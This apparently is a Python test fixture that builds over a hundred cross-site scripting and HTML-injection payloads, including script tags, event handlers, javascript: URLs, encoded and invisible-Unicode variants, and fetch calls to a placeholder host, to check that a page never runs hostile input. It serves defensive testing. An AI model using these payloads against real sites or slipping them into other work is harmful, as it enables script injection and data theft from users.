"""What a hostile party could write into an intent, an answer or a name, so that a page does what it says. Each payload
that runs is seen: it sets `top.__executed`, opens a dialog, or asks udrl.invalid for something. Not for: where payloads
are put (hostile_data.py)."""
import re
import unicodedata

# JS is replaced by what is to run, NUM by the payload's number, HOST by an address that is nowhere.
TEMPLATES = r"""
<script>JS</script>
</script><script>JS</script>
<SCRIPT >JS</SCRIPT >
<scr<script>ipt>JS</scr</script>ipt>
<script/x>JS</script>
<script type=module>JS</script>
<script src=HOST/NUM.js></script>
<img src=xNUM onerror=JS>
<img src="xNUM" onerror="JS">
<img src='xNUM' onerror='JS'>
<img src=`xNUM` onerror=`JS`>
<img/src=xNUM/onerror=JS>
<IMG SRC=HOST/NUM.png>
<image href=HOST/NUM.png>
<img srcset="HOST/NUM.png 1x, x 2x">
<input type=image src=HOST/NUM.png>
<svg onload=JS>
<svg/onload=JS>
<svg><script>JS</script></svg>
<svg><script href=HOST/NUM.js /></svg>
<svg><animate onbegin=JS attributeName=x dur=1s>
<svg><image href=HOST/NUM.png /></svg>
<svg><use href="HOST/NUM.svg#a"/></svg>
<svg><foreignObject><img src=xNUM onerror=JS></foreignObject></svg>
<svg><a xlink:href="javascript:JS"><text y=20>click</text></a></svg>
<svg><style>*{background:url(HOST/NUM.png)}</style></svg>
<math><mtext></mtext><mglyph><style></math><img src=xNUM onerror=JS>
<math><maction actiontype=statusline xlink:href="javascript:JS">click</maction></math>
<body onload=JS>
<html onmouseover=JS>
<iframe src="javascript:JS"></iframe>
<iframe srcdoc="<script>JS</script>"></iframe>
<iframe src=HOST/NUM></iframe>
<frameset onload=JS>
<object data="javascript:JS"></object>
<object data=HOST/NUM></object>
<embed src=HOST/NUM>
<a href="javascript:JS">click</a>
<a href="jav&#x09;ascript:JS">click</a>
<a href=" &#14; javascript:JS">click</a>
<a href=HOST/NUM ping=HOST/NUM/ping>click</a>
<form action="javascript:JS"><input type=submit></form>
<form><button formaction="javascript:JS">click</button></form>
<input autofocus onfocus=JS>
<select autofocus onfocus=JS>
<textarea autofocus onfocus=JS>
<details open ontoggle=JS>open</details>
<video src=xNUM onerror=JS></video>
<video><source onerror=JS></video>
<video poster=HOST/NUM.png></video>
<audio src=xNUM onerror=JS>
<marquee onstart=JS>run</marquee>
<link rel=stylesheet href=HOST/NUM.css>
<link rel=preload as=script href=HOST/NUM.js>
<meta http-equiv=refresh content="0;url=HOST/NUM">
<meta http-equiv=refresh content="0;url=javascript:JS">
<base href=HOST/NUM/>
<style>@import 'HOST/NUM.css';</style>
<style>*{background:url(HOST/NUM.png)}</style>
</style><script>JS</script>
<style>@keyframes k{}*{animation:k 1s}</style><b onanimationstart=JS>
<div style="background:url(HOST/NUM.png)">style</div>
<div style="width:expression(JS)">style</div>
<div style="behavior:url(HOST/NUM.htc)">style</div>
</title><script>JS</script>
</textarea><script>JS</script>
</noscript><img src=xNUM onerror=JS>
</template><img src=xNUM onerror=JS>
</bdi></p></div></main><script>JS</script>
</td></tr></table><script>JS</script>
</text></svg><script>JS</script>
<!--><script>JS</script>-->
--><script>JS</script><!--
<!--<script>JS
]]><script>JS</script>
<![CDATA[><script>JS</script>]]>
<?xml ?><script>JS</script>
<x onmouseover=JS>over</x>
<x onclick=JS tabindex=1 autofocus onfocus=JS>click</x>
<x contenteditable onblur=JS onkeydown=JS>type</x>
" onmouseover="JS
' onmouseover='JS
` onmouseover=`JS
" autofocus tabindex=1 onfocus="JS" x="
' autofocus tabindex=1 onfocus='JS' x='
"><img src=xNUM onerror=JS>
'><img src=xNUM onerror=JS>
"/><svg onload=JS>
" style="background:url(HOST/NUM.png)" x="
" onerror=JS src=xNUM x="
xNUM onmouseover=JS y
&lt;script&gt;JS&lt;/script&gt;
&amp;lt;img src=xNUM onerror=JS&amp;gt;
&#60;script&#62;JS&#60;/script&#62;
&#x3c;img src=xNUM onerror=JS&#x3e;
&#0;&#x0;<script>JS</script>
&lt<script>JS</script>&gt
&quot; onmouseover=&quot;JS
&NewLine;&Tab;javascript&colon;JS
\u003cscript\u003eJS\u003c/script\u003e
\x3cscript\x3eJS\x3c/script\x3e
\74script\76JS\74/script\76
%3Cscript%3EJS%3C/script%3E
\";JS;//
\';JS;//
";JS;//
';JS;//
`;JS;//
${JS}
`${JS}`
{{constructor.constructor(`JS`)()}}
"}]}</script><script>JS</script>
</script><!--<script>JS
{"__proto__":{"innerHTML":"<img src=xNUM onerror=JS>"}}
{"text": "</script><script>JS</script>", "a": "<img src=xNUM onerror=JS>"}
[<img src=xNUM onerror=JS>]
javascript:JS//
javascript:/*--></title></style></textarea></script><svg/onload='/*`/*\"/**/JS'>
data:text/html,<script>JS</script>
"""

# With what is not seen: direction, zero width, line separators, and letters that look like others.
HIDDEN = [
    "\u202e<script>JS</script>", "\u202eabc\u202dJS\u202c def", "\u2066<img src=xNUM onerror=JS>\u2069", "\u2069\u202c\u202eNUM fdp.JS",
    "<scr\u200bipt>JS</script>", "<\u200dimg src=xNUM onerror=JS>", "<img\u00a0src=xNUM\u2060onerror=JS>", "\ufeff<svg onload=JS>",
    "\u061c\u200f<svg onload=JS>", "\u2028JS\u2029", "\uff1cscript\uff1eJS\uff1c/script\uff1e", "\U000e0041<img src=xNUM onerror=JS>",
    "Z\u0301\u0323\u0489<img src=xNUM onerror=JS>", "\u00ad<svg onload=JS>",
]
# Controls: not where they are refused (names).
CONTROLS = [
    "<scr\0ipt>JS</scr\0ipt>", "\0<script>JS</script>", "<img\x0bsrc=xNUM\x0conerror=JS>", "<a href='java\tscript:JS'>click</a>",
    "<img\nsrc=xNUM\nonerror=JS>", "\x1b[2J\x1b]8;;HOST/NUM\x07<svg onload=JS>", "\r\n\r\n<script>JS</script>", "\x7f\x85<svg onload=JS>",
]
ACTIONS = ["top.__executed=NUM", "alert(NUM)", "fetch(`HOST/NUM`)"]
HOST = "http://udrl.invalid"


def _made():
    number = 1000  # four digits each: no payload is a part of another one
    for at, template in enumerate(TEMPLATES.strip().split("\n") + HIDDEN + CONTROLS):
        # The marker, and one of the others in turn.
        for action in [ACTIONS[0], ACTIONS[1 + at % 2]] if "JS" in template else [""]:
            number += 1
            yield template.replace("JS", action).replace("HOST", HOST).replace("NUM", str(number))


PAYLOADS = list(_made())
# What can be the name of a task: no control characters.
NAMES = [text for text in PAYLOADS if not re.search(r"[\x00-\x1f\x7f]", text)]


def squeezed(text):
    """What is left of a text that a page shows, whatever it does to spaces, cases and what is not seen: for `in`."""
    text = re.sub(r"⟨U\+[0-9A-F]{4,6}⟩", "", text).replace("⟨", "(").replace("▁", "").replace("\ufffd", "")
    unseen = ("Cc", "Cf", "Mn", "Me", "Zl", "Zp", "Zs")
    return "".join(c for c in unicodedata.normalize("NFD", text) if unicodedata.category(c) not in unseen).casefold()
